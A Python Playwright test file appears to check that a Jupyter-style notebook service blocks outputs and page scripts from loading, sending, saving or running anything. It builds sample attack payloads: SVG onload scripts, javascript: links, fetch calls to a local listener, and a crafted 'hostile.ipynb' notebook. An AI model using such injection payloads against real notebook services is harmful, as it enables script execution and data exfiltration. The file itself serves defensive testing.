"""Nothing that a notebook shows, and no script in its page, gets bytes out of the browser.

Two lines stand one behind the other: outputs are cleaned by the desk, so that none of them loads,
sends, saves or runs; and the page's own policy stops what a script would do if one ran. Each line is
tried by itself. The listener answers everybody, and it is on this machine, where no firewall helps.
What a policy cannot stop in a page is a script that leaves it (``location = ...``): that no script
runs is what stops it, so it is tried from outputs only.
"""

import json
import time
from collections.abc import Iterator
from contextlib import suppress

import pytest
from playwright.sync_api import Locator
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from tests.support.browser_lab import LabWindow
from tests.support.browser_leaks import MARKED, NAVIGATES, SCRIPT, output
from tests.support.browser_listener import Listener, listening

SECONDS = 3
BARE = "connection"
"""Chromium connects ahead to where a frame would go, then the policy refuses it: no byte of a request follows.
A script could say something by the names it makes the browser look up; docs/security/limits.md says so."""
DISPLAY = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
html = {html}
script = "globalThis.hanareRan=1;fetch('" + {there} + "/mime')"
svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + script + '"><image href="' + {there} + '/svg"/></svg>'
display(HTML(html)); display(Markdown(html)); display(SVG(svg)); display(Javascript(script))
display({{"text/html": html, "text/markdown": html, "image/svg+xml": svg, "application/javascript": script,
  "text/latex": r"\\href{{javascript:" + script + "}}{{x}} \\includegraphics{{" + {there} + "/latex}}",
  "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}, "application/geo+json": {{}},
  "application/vnd.vegalite.v5+json": {{"data": {{"url": {there} + "/vega"}}, "mark": "bar"}},
  "application/pdf": "JVBERi0xLjQK"}}, raw=True)
print("HANARE-DISPLAYED")
"""
SAVED = """
import json
from IPython.display import display
html = {html}
bundle = {{"text/html": html, "image/svg+xml": html, "application/javascript": "globalThis.hanareRan=1",
  "text/markdown": html}}
cells = [{{"cell_type": "markdown", "metadata": {{"trusted": True}}, "source": html + "\\n\\n![x]({there}/image) <" + "{there}/auto>"}},
  {{"cell_type": "raw", "metadata": {{"raw_mimetype": "text/html"}}, "source": html}},
  {{"cell_type": "code", "execution_count": 1, "metadata": {{"trusted": True}}, "source": "1", "outputs": [
    {{"output_type": "display_data", "data": bundle, "metadata": {{"isolated": True}}}},
    {{"output_type": "execute_result", "execution_count": 1, "data": bundle, "metadata": {{}}}},
    {{"output_type": "stream", "name": "stdout", "text": html}},
    {{"output_type": "error", "ename": html, "evalue": html, "traceback": [html]}}]}}]
with open("/work/hostile.ipynb", "w") as file:
    json.dump({{"cells": cells, "metadata": {{"trusted": True, "kernelspec": {{"name": "python3", "display_name": "Python 3"}}}}, "nbformat": 4, "nbformat_minor": 4}}, file)
print("HANARE-SAVED")
"""


@pytest.fixture(name="listener")
def _listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


def ran(window: LabWindow) -> bool:
    return window.page.evaluate(f"{MARKED} !== undefined") is True


def press_everything(window: LabWindow, shown: Locator) -> None:
    """A person presses all there is to press in an output, but for buttons of forms."""
    for part in shown.locator("a, input, summary").all():
        if part.is_visible() and part.is_enabled():
            part.click(timeout=2_000, no_wait_after=True)
    window.page.wait_for_timeout(SECONDS * 1_000)


def nothing_left(window: LabWindow, listener: Listener, address: str) -> None:
    assert listener.calls == []
    assert (window.downloads, window.windows) == ([], [])
    assert window.page.url.partition("#")[0] == address, "the page is still there"
    assert not ran(window), "no script of an output ran"


def test_no_live_output_loads_sends_saves_or_runs_anything(window: LabWindow, listener: Listener) -> None:
    page = window.open()
    window.new_notebook()
    address = page.url
    code = DISPLAY.format(html=repr(output(listener.address)), there=repr(listener.address))
    window.run(code, "HANARE-DISPLAYED")
    window.run(
        f"HTML({NAVIGATES.replace('THERE', listener.address)!r} + 'HANARE-NAVIGATES')", "HANARE-NAVIGATES"
    )
    press_everything(window, page.locator(".jp-OutputArea"))
    nothing_left(window, listener, address)
    assert page.frames == [page.main_frame], "no frame inside"


def test_a_saved_notebook_full_of_attacks_does_nothing_when_opened_and_when_trusted(
    window: LabWindow, listener: Listener
) -> None:
    page = window.open()
    window.new_notebook()
    window.run(SAVED.format(html=repr(output(listener.address)), there=listener.address), "HANARE-SAVED")
    page.locator(".jp-id-refresh, [data-command='filebrowser:refresh']").first.click()
    page.locator(".jp-DirListing-item", has_text="hostile.ipynb").dblclick()
    window.ready()
    address = page.url
    panel = page.locator(".jp-NotebookPanel:visible")
    press_everything(window, panel.locator(".jp-OutputArea, .jp-MarkdownOutput"))
    nothing_left(window, listener, address)
    trust_the_notebook(window)
    press_everything(window, panel.locator(".jp-OutputArea, .jp-MarkdownOutput"))
    nothing_left(window, listener, address)
    send = panel.locator(".jp-MarkdownOutput form button").first
    with suppress(PlaywrightTimeoutError):  # the driver waits for what the policy refused: the last step
        send.click(timeout=2_000)
    time.sleep(SECONDS)
    assert (listener.calls, window.downloads, window.windows) == ([], [], [])
    assert page.url.partition("#")[0] == address


def trust_the_notebook(window: LabWindow) -> None:
    """By the command palette, as a person would who believed the sender."""
    page = window.page
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Shift+c")
    page.locator(".lm-CommandPalette-input:visible").fill("信用")
    page.locator(".lm-CommandPalette-item:visible", has_text="Notebook").first.click()
    window.close_dialog()


def test_a_script_in_the_page_reaches_no_other_place_and_saves_nothing(
    window: LabWindow, listener: Listener
) -> None:
    page = window.open()
    address = page.url
    seen = page.evaluate(SCRIPT, {"there": listener.address, "port": listener.port})
    page.wait_for_timeout(SECONDS * 1_000)
    assert listener.channels() <= {BARE}, seen
    assert (window.downloads, window.windows) == ([], [])
    assert page.url.partition("#")[0] == address
    assert page.evaluate("globalThis.hanareRead") is None, "nothing could be read there either"
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


def test_what_the_page_may_do_is_said_by_the_desk_with_every_answer(window: LabWindow) -> None:
    page = window.open()
    for path in ("/lab", "/api/contents?content=0", "/static/favicons/favicon.ico", "/hanare/meter"):
        answer = page.request.get(window.base + path)
        policy = answer.headers.get("content-security-policy", "")
        assert "default-src 'none'" in policy, path
        assert "sandbox" in policy, path
        assert not {"allow-downloads", "allow-popups", "allow-top-navigation"} & set(policy.split()), path
        assert answer.headers.get("x-content-type-options") == "nosniff", path
    assert json.loads(page.request.get(f"{window.base}/hanare/meter").text())["recorded"] is True
